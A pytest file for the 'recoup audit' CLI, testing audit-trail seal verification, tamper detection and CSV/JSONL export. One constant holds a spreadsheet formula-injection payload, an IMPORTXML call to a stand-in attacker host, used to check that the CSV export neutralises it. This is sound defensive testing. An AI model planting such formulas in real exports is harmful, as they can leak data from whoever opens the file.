"""`recoup audit` as finance and an operator meet it: what it prints, its status, and the files that it leaves."""

from __future__ import annotations

import asyncio
import csv
import json
import os
import sqlite3
from collections.abc import Awaitable, Callable
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from bot.app import SystemClock
from bot.cli import app
from bot.domain.action import Action, ActionState
from bot.domain.offer import Decision
from bot.services.audit import Sealing
from bot.storage.engine import Storage, open_storage
from bot.storage.schema import migrate
from tests.storage.builders import INVOICE, PAID, REF, a_claim, a_drawn_offer, a_press, a_step, an_accepted, an_offer, begun

FORMULA = '=IMPORTXML("https://evil.example/")'


def recoup(*arguments: str) -> Result:
    done = CliRunner().invoke(app, ["audit", *arguments], env={"COLUMNS": "120"}, prog_name="recoup")
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return done


async def _three_events(storage: Storage) -> None:
    """A voiding with a reason that a spreadsheet would run."""
    press = a_press(await a_drawn_offer(storage), action=Action.VOID)
    await an_accepted(storage, replace(press, decision=Decision(Action.VOID, FORMULA)))
    await storage.journal.record(await begun(storage, await a_claim(storage)), a_step(ActionState.SUCCEEDED, PAID))


async def _seal(storage: Storage) -> None:
    await Sealing(storage.audit, SystemClock()).catch_up()


@pytest.fixture
def database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    for name in list(os.environ):
        if name.upper().startswith(("RECOUP_", "SLACK_")):
            monkeypatch.delenv(name)
    asyncio.run(migrate(f"sqlite:///{tmp_path}/recoup.db"))
    return tmp_path / "recoup.db"


def _write(database: Path, *steps: Callable[[Storage], Awaitable[None]]) -> None:
    async def work() -> None:
        async with open_storage(f"sqlite:///{database}") as storage:
            for step in steps:
                await step(storage)

    asyncio.run(work())


def _tamper(database: Path, statement: str) -> None:
    with closing(sqlite3.connect(database)) as connection, connection:
        for (name,) in connection.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            connection.execute(f"DROP TRIGGER {name}")
        connection.execute(statement)


def _names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def test_a_whole_trail_is_told_with_its_newest_digest_which_can_be_asked_for_again(database: Path) -> None:
    assert "Nothing is sealed yet (0 events" in recoup("verify").stdout
    _write(database, _three_events, _seal)
    told = recoup("verify")
    assert told.exit_code == 0
    assert "The audit trail is whole: 3 events under 1 seal. Every event is sealed." in told.stdout
    digest = told.stdout.split("Newest seal: ")[1].strip()
    again = recoup("verify", "--expect", digest.upper())
    assert again.exit_code == 0
    assert "The digest that was noted is in the chain." in again.stdout


def test_events_that_wait_for_their_seal_are_counted(database: Path) -> None:
    async def one_more(storage: Storage) -> None:
        await an_accepted(storage, a_press(an_offer(replace(INVOICE, ref=replace(REF, id="in_2")))))

    _write(database, _three_events, _seal, one_more)
    told = recoup("verify")
    assert (told.exit_code, "1 newer event not sealed yet." in told.stdout) == (0, True)


def test_a_trail_that_was_changed_is_told_in_a_sentence_and_a_status(database: Path) -> None:
    _write(database, _three_events, _seal)
    _tamper(database, "UPDATE event SET actor = 'U0EVE' WHERE id = 1")
    told = recoup("verify")
    assert told.exit_code == 1
    assert "The audit trail does not fit.\nEvents 1 to 3 (seal 1, " in told.stdout
    assert "was changed after sealing." in told.stdout


def test_a_digest_that_is_not_in_the_chain_or_none_at_all_is_told(database: Path) -> None:
    _write(database, _three_events, _seal)
    cut_off = recoup("verify", "--expect", "0" * 64)
    assert cut_off.exit_code == 1
    assert "The digest that was noted is not in this chain" in cut_off.stdout
    none = recoup("verify", "--expect", "s3al")
    assert (none.exit_code, none.stderr.startswith("recoup: A digest has 64 characters")) == (1, True)


def test_the_export_is_a_table_that_a_spreadsheet_can_open_without_harm(database: Path) -> None:
    _write(database, _three_events)
    told = recoup("export", "--since", "2026-11-01")
    assert told.exit_code == 0
    rows = list(csv.DictReader(told.stdout.splitlines()))
    assert [row["what"] for row in rows] == ["action.accepted", "attempt.begun", "action.succeeded"]
    assert {(row["decided_by"], row["action"], row["currency"], row["amount"]) for row in rows} == {
        ("U0ANA", "void", "EUR", "420.00")
    }
    assert rows[0]["reason"] == f"'{FORMULA}"
    assert rows[0]["at"] == "2026-11-20T09:00:00.000Z"
    assert rows[2]["provider_request_id"] == "req_1"


def test_the_lossless_export_is_one_event_a_line(database: Path, tmp_path: Path) -> None:
    _write(database, _three_events)
    recoup("export", "--since", "2026-11-20", "--until", "2026-11-20", "--format", "jsonl", "--output", "trail.jsonl")
    events = [json.loads(line) for line in (tmp_path / "trail.jsonl").read_text().splitlines()]
    assert [event["event"] for event in events] == [1, 2, 3]
    assert events[0]["facts"]["reason"] == FORMULA
    assert (tmp_path / "trail.jsonl").stat().st_mode & 0o077 == 0, "it is as private as the database"
    assert [path.name for path in tmp_path.glob("trail*")] == ["trail.jsonl"]


def test_only_the_span_that_was_asked_for_is_exported(database: Path) -> None:
    _write(database, _three_events)
    for span in (("--since", "2026-11-21"), ("--since", "2026-11-01", "--until", "2026-11-19")):
        assert len(recoup("export", *span).stdout.splitlines()) == 1, "the head of the table"
    exactly = recoup("export", "--since", "2026-11-20T09:00:00Z", "--until", "2026-11-20T09:00:01Z")
    assert len(exactly.stdout.splitlines()) == 4


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (("--since", "1.11.2026"), "“1.11.2026” is not a date: write it like 2026-11-30"),
        (("--since", "2026-11-02", "--until", "2026-11-01"), "--until has to be after --since."),
        (("--since", "2026-11-01", "--output", "no/such/folder.csv"), "cannot be written: No such file or directory."),
    ],
)
def test_what_cannot_be_exported_is_one_sentence(database: Path, arguments: tuple[str, ...], sentence: str) -> None:
    del database
    told = recoup("export", *arguments)
    assert (told.exit_code, told.stdout) == (1, "")
    assert sentence in told.stderr
    assert len(told.stderr.splitlines()) == 1


def test_both_work_beside_a_running_bot_and_leave_nothing_behind(database: Path, tmp_path: Path) -> None:
    async def beside() -> None:
        async with open_storage(f"sqlite:///{database}", exclusive=True) as storage:
            await _three_events(storage)
            await _seal(storage)
            before = _names(tmp_path)
            told = [await asyncio.to_thread(recoup, *words) for words in (("verify",), ("export", "--since", "2026-11-01"))]
            assert [each.exit_code for each in told] == [0, 0]
            assert _names(tmp_path) == before
            await storage.journal.ping()

    asyncio.run(beside())


def test_where_there_is_no_database_yet_that_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("RECOUP_DATABASE_URL", f"sqlite:///{tmp_path}/none.db")
    told = recoup("verify")
    assert told.exit_code == 1
    assert "cannot be opened: No such file or directory" in told.stderr
    assert list(tmp_path.iterdir()) == []
